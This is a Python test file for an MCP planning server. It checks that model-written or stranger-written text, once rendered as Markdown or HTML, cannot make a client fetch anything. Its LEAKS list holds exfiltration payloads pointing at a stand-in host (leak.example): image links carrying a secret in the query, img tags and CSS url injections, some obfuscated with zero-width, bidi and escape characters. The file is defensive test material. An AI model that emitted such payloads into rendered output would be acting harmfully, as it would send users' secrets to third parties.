"""Nothing that a model or a stranger wrote is fetched by whoever shows it."""

import json
import random
from html.parser import HTMLParser

import pytest
from fastmcp.client.client import CallToolResult
from generated import fitting
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from mcp_types import TextContent
from scripted_ollama import Answer, Reply, Request, ScriptedOllama
from serving import Place

from planner.events import RunFinished
from server.views.inert import inert, inert_piece
from server.views.markdown import Document
from server.views.transcript import transcript

pytestmark = pytest.mark.anyio

LEAKS = [
    "![i](http://leak.example/?q=SECRET)",
    "!\u200b[i](http://leak.example/?q=SECRET)",
    "!\u202e[i](http://leak.example/?q=SECRET)",
    "!\x1b[0m[i](http://leak.example/?q=SECRET)",
    "!\u200c\u200c\u200b\u200c[i](http://leak.example/?q=SECRET)",
    "<\u200bstyle>*{background:url(http://leak.example)}</style>",
    "<div <x>\n<img <y src=http://leak.example/?q=SECRET>",
    "<img src='http://leak.example/?q=SECRET'>",
    "`a | ![i](http://leak.example/?q=SECRET) `",
]
PARSERS = (MarkdownIt("commonmark"), MarkdownIt("commonmark").enable("table"))


def text_of(result: CallToolResult) -> str:
    assert isinstance(result.content[0], TextContent)
    return result.content[0].text


class Fetching(HTMLParser):
    """Notes the tags that could fetch, as a browser finds them in a text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("style", "script") or any(value for _, value in attrs):
            self.tags.append(f"{tag} {attrs}")


def fetched(shown: str) -> list[str]:
    """What a renderer of Markdown fetches, or one that takes it all for HTML."""
    images = [
        child.content
        for parser in PARSERS
        for token in parser.parse(shown)
        for child in token.children or ()
        if child.type == "image"
    ]
    browser = Fetching()
    browser.feed(shown)
    browser.close()
    return images + browser.tags


pieces = st.lists(
    st.sampled_from(
        [
            *("!", "[", "i", "]", "(//a)", "[i]", "[i]: //a", "\n", "\n\n", "`", "```", "|", " "),
            *("<", "img", " src=", "'", '"', ">", "/", "style", "<!--", "-->", "<div <x>", "a<b"),
            *("\u200b", "\u200c", "\u200c\u200c", "\x1b", "\x1b[0m", "\u202e", "    ", "- ", "\\"),
            *LEAKS,
        ]
    ),
    max_size=14,
).map("".join)  # fmt: skip


@given(pieces)
def test_no_finished_text_is_fetched(said: str) -> None:
    shown = inert(said)
    assert not fetched(shown)
    assert inert(shown) == shown


@given(st.lists(pieces, max_size=4))
def test_no_pieces_become_something_that_is_fetched(said: list[str]) -> None:
    assert not fetched("".join(map(inert_piece, said)))


async def test_no_view_of_a_run_is_fetched(place: Place) -> None:
    """A model that leaks in whatever it may write, seen by a client."""
    chance = random.Random(0)

    def leaking(request: Request) -> Reply:
        return Answer(json.dumps(fitting(request.schema or {}, chance, LEAKS)), unconstrained=True)

    with ScriptedOllama(handler=leaking) as place.ollama:
        async with place.client() as caller:
            leaked = 0
            for number in range(8):
                tool = "make_plan" if number % 2 else "plan_and_answer"
                result = await caller.call(tool, prompt=f"What is {number} and who says so?")
                assert result.whole
                leaked += "leak.example" in text_of(result)
                run_id = result.whole["run_id"]
                told = await caller.client.read_resource(f"run://{run_id}/transcript")
                assert not fetched(text_of(result))
                assert not fetched(told[0].text)  # type: ignore[union-attr]
            assert leaked


@pytest.mark.parametrize("leak", LEAKS)
def test_no_answer_over_the_openai_api_is_fetched(leak: str) -> None:
    event = RunFinished(status="partial", answer=f"It is {leak}", reason=leak)
    assert not fetched(Document().tell(event))
    assert not fetched(transcript("r", [event]))
